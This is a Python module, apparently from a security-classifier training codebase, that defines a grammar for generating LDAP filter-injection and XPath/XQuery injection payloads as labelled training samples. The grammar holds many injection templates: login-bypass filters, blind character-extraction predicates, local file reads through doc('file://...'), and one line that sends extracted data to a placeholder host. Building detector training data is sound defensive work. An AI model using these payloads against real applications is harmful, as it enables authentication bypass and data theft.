"""LDAP and XPath/XQuery injection: filters and predicates that stop meaning what they meant."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.style import sometimes_percent
from securitai.train.corpora.kinds import COOKIE, HEADER, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
attr = uid¦cn¦sn¦mail¦userPassword¦objectClass¦objectclass¦password¦givenName¦memberOf¦sAMAccountName¦userPrincipalName¦description¦telephoneNumber¦ou¦dc¦member¦homeDirectory¦department¦name¦user¦homePhone¦mobile¦surname¦unicodePwd¦pass¦carLicense¦title¦employeeNumber¦badPwdCount
val = *¦*¦admin¦a*¦b*¦1¦test¦admin*¦*admin*¦*)(¦void¦user¦person¦top
ltail:
  3×‹e›
  2×)(&
  ))
  %00
  ))%00
  )(|
  \00
  ‹nul›
  )(‹attr›=‹val›
ldap:
  4×‹pre›*)(‹attr›=‹val›‹ltail›
  3×*)(‹attr›=‹val›))(|(‹attr›=‹val›
  2×*)(|(‹attr›=‹val›))
  2×‹pre›)(|(‹attr›=‹val›)
  2×‹user›)(&)
  2×‹user›)(‹attr›=‹val›))(&(1=0
  ‹pre›*))(|(‹attr›=‹val›
  *(|(‹attr›=‹val›))
  *)(‹attr›=*))%00
  ‹user›)(|(‹attr›=‹val›)(‹attr›=‹val›
  *)(&
  *))%00
  *()|%26'
  *()|&'
  ‹user›*)((|‹attr›=*)
  ‹user›)(!(&(1=0
  x)(|(‹attr›=*
  )(‹attr›=*
  )(|(‹attr›=*)(‹attr›=*))
  |(‹attr›=*)
  (&(‹attr›=‹user›)(‹attr›=‹val›))
  (|(‹attr›=‹val›)(‹attr›=*))
  (&(|(‹attr›=*)(‹attr›=‹val›))
  !(‹attr›=‹val›)
  *)(‹attr›>=‹c›
  ‹pre›)(‹attr›~=‹val›)
  ‹az›)(cn=))\x00
  ‹pre›*)(‹attr›:1.2.840.113556.1.4.803:=‹n›
  ‹pre›\2a\29\28‹attr›=\2a
  %2A%28%7C%28‹attr›%3D%2A%29%29
  *%29%28‹attr›%3D*
  *))));
  )(&(‹attr›=‹val›)
  ‹pre›)(‹attr›=*))(|(‹attr›=*
  *)(‹attr›=‹c›*)(‹attr›=*
  cn=‹user›,ou=*)(‹attr›=*
  ‹az›,dc=*)(‹attr›=*
  ‹user›,ou=‹az›))(|(‹attr›=*
  *)(mail=*@‹site›
  ;(‹attr›=*)
  ‹user›)(‹attr›=‹rnd›))(|(‹attr›=‹user›)(1=1
  |(|(‹attr›=‹val›
  *)(objectClass=‹user¦person¦*¦void¦computer¦group›
  ‹pre›)(objectClass=*
node = user¦username¦password¦account¦employee¦name¦*¦node()¦text()¦email¦pass¦id¦item¦product¦login¦@*
q = '¦'¦'¦"
xcond:
  3×‹x=d1›=‹$x›
  '‹x=az›'='‹$x›
  1=1
  true()
  count(/‹node›)=‹d1›
  count(/*)=‹d1›
  count(//‹node›)>‹d1›
  count(/@*)=‹d1›
  count(/comment())=‹d1›
  count(/*/*)=‹d1›
  string-length(name(/*[‹d1›]))=‹#1-20›
  string-length(//‹node›[‹d1›]/‹node›)>‹#1-20›
  substring(name(/*[1]),‹d1›,1)='‹c›'
  substring(//‹node›[‹d1›]/‹node›,‹d1›,1)='‹c›'
  substring((//‹node›[position()=‹d1›]/child::node()[position()=‹d1›]),‹d1›,1)="‹c›"
  substring(‹node›/text(),1,1)='‹c›'
  name()='‹node›'
  name(/*[1])='‹az›'
  contains(‹node›,'‹c›')
  starts-with(‹node›,'‹c›')
  position()=‹d1›
  not(‹node›='‹az›')
  /‹node›/‹node›
  ../../‹node›
  string(//‹node›[1])
  doc-available('‹url›')
  doc(concat('‹url›/',‹node›))
  normalize-space(//‹node›)=''
  matches(‹node›,'^‹c›')
  system-property('xsl:vendor')='‹az›'
xpath:
  5×‹pre›' or ‹xcond› or '‹x=c›'='‹$x›
  4×‹pre›' and ‹xcond› and '‹x=d1›'='‹$x›
  2×‹pre›' or ‹xcond›]‹xp›
  2×‹pre›') or ‹xcond› or ('‹x=c›'='‹$x›
  ‹pre›" or ‹xcond› or "‹x=c›"="‹$x›
  ‹pre›'] | //‹node› | //‹node›['
  ‹pre›']/parent::*/child::node()%00
  ‹pre›'] | //*[contains(.,'‹c›
  ‹pre›')] | //‹node›[('
  ‹pre›']|//password%00
  ‹pre›' or ‹node›='‹user›' or '‹c›'='‹c›
  x' or name()='‹node›' or 'x'='y
  '|//‹node›|'
  ')]|//*|//*[('
  //‹node›
  //‹node›[‹xcond›]
  //*
  //user[name/text()='' or '1'='1' and password/text()='' or '1'='1']
  /‹node›/‹node›[‹d1›]/‹node›
  count(/child::node())
  ‹xcond›
  ‹pre› or ‹xcond›
  ‹pre›]|//‹node›[‹xcond›
  ' or '1'='1']‹xp›
  '] union //‹node› | ['
  ‹pre›' or //‹node›[‹xcond›]='
  ‹pre›' and doc('http://‹host›/?'||encode-for-uri(string(//‹node›[1]))) and '1'='1
  ‹pre›' return $‹az›} ‹nl›for $‹x=az› in doc('‹u_file›')//* return $‹$x›(:
  let $‹x=az› := doc("file://‹u_file›") return $‹$x›
  ‹user›' or contains(.,'‹c›') or '‹c›'='
  ancestor-or-self::node()
  //‹node›/ancestor::*
  ' or string-length(//‹node›[position()=‹d1›]/‹node›)=‹d1› or ''='
xp:
  ‹e›
  %00
  /‹node›
  |//‹node›
  |‹c›[‹c›
""",
    PARTS,
)
_SOME = (VALUE, COOKIE, HEADER)
KINDS = (
    AttackKind("ldapi.filter", Category.LDAPI, _G.maker("ldap", sometimes_percent), 3.0, _SOME),
    AttackKind("xpath.predicate", Category.XPATH, _G.maker("xpath", sometimes_percent), 3.0, _SOME),
)
